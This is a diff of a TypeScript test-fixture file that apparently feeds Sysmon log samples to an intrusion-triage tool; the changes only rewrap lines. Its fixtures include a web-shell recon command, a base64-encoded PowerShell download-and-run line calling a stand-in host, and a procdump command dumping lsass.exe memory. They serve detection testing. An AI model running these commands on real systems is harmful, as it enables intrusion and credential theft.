@@ -29,13 +29,18 @@ const sysmon = (image: string, commandLine: string): string =>
   );
 const order = 'cmd /c cd /d "C:\\\\inetpub\\\\wwwroot\\\\aspnet_client"&net user /domain&echo [S]&cd&echo [E]';
 /** Of a harmless sentence: what counts is that the task hides what it does. */
-const hidden = Buffer.from('IEX (New-Object Net.WebClient).downloadstring("http://t.example/a.jsp")', 'utf16le').toString('base64');
+const hidden = Buffer.from('IEX (New-Object Net.WebClient).downloadstring("http://t.example/a.jsp")', 'utf16le').toString(
+  'base64',
+);
 
 export const machine: readonly HandOver[] = [
   {
     name: 'a child of the worker process, as text',
     files: {
-      'sysmon.txt': sysmon('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden Get-Process'),
+      'sysmon.txt': sysmon(
+        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        'powershell.exe -nop -w hidden Get-Process',
+      ),
     },
     expect: operated,
   },
@@ -52,7 +57,10 @@ export const machine: readonly HandOver[] = [
   {
     name: 'memory of the logon process, taken by a child of the worker process',
     files: {
-      'sysmon.txt': sysmon('C:\\Windows\\Temp\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp'),
+      'sysmon.txt': sysmon(
+        'C:\\Windows\\Temp\\procdump64.exe',
+        'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
+      ),
     },
     expect: { answer: ['confirmed'], stage: ['spread', 'operated'], mustNotClaim: ['impact'] },
   },
